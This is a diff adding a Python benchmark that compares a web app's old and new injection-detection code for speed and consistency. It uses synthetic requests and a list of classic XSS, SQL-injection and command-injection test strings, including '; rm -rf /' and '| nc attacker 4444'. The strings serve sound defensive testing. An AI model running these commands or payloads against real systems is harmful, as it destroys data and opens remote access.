@@ -0,0 +1,165 @@
+"""
+Бенчмарк инспекции запросов (web/security.py): прежние отдельные регулярные
+выражения против общей альтернации с префильтром (web/inspection.py).
+
+Прежний путь воспроизведён дословно: для каждой категории (XSS, SQL,
+команды) перебор скомпилированных шаблонов, у словаря — str() значения
+заново в каждой категории. Наборы: поля форм (вход, настройки, кнопки),
+GET-параметры, JSON-тела (плоские и с вложенными списками), тексты, не
+задевающие ни одного правила, и строки атак.
+Печатает время на запрос и сверяет решения по каждому значению; код
+возврата 1 при расхождении.
+
+    python tests/bench_security.py --rounds 2000
+"""
+
+import argparse
+import json
+import os
+import random
+import re
+import sys
+import time
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from web.security import INJECTION_CATEGORIES, security_manager
+
+
+class LegacyInspector:
+    """Прежние check_xss / check_sql_injection / check_command_injection"""
+
+    def __init__(self, manager):
+        self.regex = {
+            'xss': [re.compile(p, re.IGNORECASE) for p in manager.xss_patterns],
+            'sql': [re.compile(p, re.IGNORECASE) for p in manager.sql_patterns],
+            'command': [re.compile(p, re.IGNORECASE) for p in manager.command_patterns],
+        }
+
+    def check(self, category, data):
+        if isinstance(data, str):
+            return any(pattern.search(data) for pattern in self.regex[category])
+        if isinstance(data, dict):
+            return any(self.check(category, str(value)) for value in data.values())
+        if isinstance(data, list):
+            return any(self.check(category, str(item)) for item in data)
+        return False
+
+    def check_injection(self, data):
+        return any(self.check(category, data) for category in INJECTION_CATEGORIES)
+
+
+def form_requests(rnd):
+    names = ['Иван', 'Мария', 'Алексей', 'Ольга', 'Driver-7', 'Сергей Петров']
+    addresses = ['ул. Тверская, 7', 'Ленинский проспект, 32А', 'Москва, Арбат 10, подъезд 2', 'пос. Внуково']
+    requests = []
+    for i in range(200):
+        requests.append({'login': f"user{i}", 'password': f"Pa$$w0rd!{i}", 'csrf_token': '%032x' % rnd.getrandbits(128)})
+        requests.append({'first_name': rnd.choice(names), 'last_name': rnd.choice(names),
+                         'work_latitude': f"{55.7 + rnd.random() / 10:.6f}", 'work_longitude': f"{37.6 + rnd.random() / 10:.6f}",
+                         'work_radius': str(rnd.choice([100, 150, 300])), 'address': rnd.choice(addresses)})
+        requests.append({'button_text': rnd.choice(['Еду домой 🚗', 'Буду через 10 минут', 'На месте!', 'Задерживаюсь (пробки)'])})
+    return requests
+
+
+def get_requests(rnd):
+    return [{'page': str(rnd.randint(1, 50)), 'limit': '100', 'user_id': str(rnd.randint(1, 10 ** 9))}
+            for _ in range(200)] + [{'token': '%032x' % rnd.getrandbits(128)} for _ in range(100)]
+
+
+def json_requests(rnd):
+    requests = []
+    for _ in range(200):
+        requests.append({'latitude': 55.7 + rnd.random() / 10, 'longitude': 37.6 + rnd.random() / 10,
+                         'accuracy': rnd.randint(5, 50), 'speed': rnd.random() * 20, 'heading': rnd.randint(0, 359)})
+        requests.append({'name': 'Склад №3', 'kind': 'polygon',
+                         'polygon': [[55.7 + rnd.random() / 100, 37.6 + rnd.random() / 100] for _ in range(12)]})
+        requests.append({'notification_text': 'Водитель выехал, будет через 15 минут', 'recipients': [1, 2, 3],
+                         'settings': {'quiet_hours': [23, 7], 'enabled': True}})
+    return requests
+
+
+def passing_requests(rnd):
+    """Значения, которые проходят все проверки: худший случай — просматриваются все правила"""
+    texts = ['Буду через {} минут.', 'Подъезд {}, код домофона не нужен.', 'Встречаю у входа №{}!', 'Заказ {} — готов?']
+    return [{'comment': rnd.choice(texts).format(rnd.randint(1, 99)) * rnd.randint(1, 4)} for _ in range(300)]
+
+
+ATTACKS = [
+    "<script>alert(1)</script>", "javascript:alert(1)", "\" onerror=alert(1) x=\"", "<img src=x>",
+    "1 OR 1=1", "admin' --", "'; DROP TABLE users; --", "UNION SELECT password FROM users",
+    "; rm -rf /", "$(whoami)", "`id`", "| nc attacker 4444", "<svg onload=alert(1)>", "JSTAG",
+]
+
+
+def attack_requests():
+    return [{'q': attack} for attack in ATTACKS] + [{'comment': f"Отличный сервис {attack}"} for attack in ATTACKS]
+
+
+def fuzz_values(rnd, count):
+    """Случайные строки из кусков правил, знаков и букв, которые re.IGNORECASE приравнивает к латинице"""
+    pieces = ['<', '>', '<img', '<scr', 'ipt>', '</script>', 'on', 'load', '=', '(', ')', ';', '|', '&', '`', '$',
+              '{', '}', '[', ']', '\\', ' ', '  ', '\n', 'OR', 'or', 'and', '1=1', "'a'='a'", 'select', 'SELECT',
+              'ſelect', 'unİon', 'Kill', 'rm', 'ls', 'id', 'echo', 'from', 'where', 'JSTAG', 'javascript:', 'eval',
+              'Москва', 'дом', '12', '.', ',', '!', '_', 'x']
+    return [''.join(rnd.choice(pieces) for _ in range(rnd.randint(1, 8))) for _ in range(count)]
+
+
+def bench(label, requests, legacy, rounds):
+    values = [v for r in requests for v in r.values()]
+    mismatches = 0
+    for value in values:
+        for category in INJECTION_CATEGORIES:
+            old = legacy.check(category, value)
+            new = security_manager.inspector.inspect(value, (category,)) is not None
+            mismatches += old != new
+        mismatches += legacy.check_injection(value) != (security_manager.inspector.inspect(value, INJECTION_CATEGORIES) is not None)
+
+    if label == 'случайные строки':
+        print(f"{label:<22} значений {len(values)}: расхождений {mismatches}")
+        return mismatches
+
+    def timed(check):
+        started = time.perf_counter()
+        for _ in range(rounds):
+            for request in requests:
+                for value in request.values():
+                    if check(value):
+                        break
+        return (time.perf_counter() - started) / (rounds * len(requests)) * 1e6
+
+    inspector = security_manager.inspector
+    old_us = timed(legacy.check_injection)
+    new_us = timed(lambda value: inspector.inspect(value, INJECTION_CATEGORIES) is not None)
+    blocked = sum(1 for r in requests if any(legacy.check_injection(v) for v in r.values()))
+    print(f"{label:<22} запросов {len(requests):4} (блокируется {blocked:4}): прежняя {old_us:8.1f} мкс/запрос, "
+          f"общая альтернация {new_us:7.1f} мкс/запрос (x{old_us / new_us:.1f}), расхождений {mismatches}")
+    return mismatches
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument('--rounds', type=int, default=200)
+    parser.add_argument('--seed', type=int, default=1)
+    parser.add_argument('--fuzz', type=int, default=20000, help='случайных строк для сверки решений')
+    args = parser.parse_args()
+
+    rnd = random.Random(args.seed)
+    legacy = LegacyInspector(security_manager)
+    sets = [
+        ('формы', form_requests(rnd)),
+        ('GET-параметры', get_requests(rnd)),
+        # JSON-тело декоратор проверяет целиком, как словарь значений верхнего уровня
+        ('JSON', [{'body': json.loads(json.dumps(r))} for r in json_requests(rnd)]),
+        ('без срабатываний', passing_requests(rnd)),
+        ('атаки', attack_requests()),
+    ]
+    failures = 0
+    fuzz = [{'value': value} for value in fuzz_values(rnd, args.fuzz)]
+    for label, requests in sets + [('случайные строки', fuzz)]:
+        failures += bench(label, requests, legacy, args.rounds)
+    return 1 if failures else 0
+
+
+if __name__ == '__main__':
+    sys.exit(main())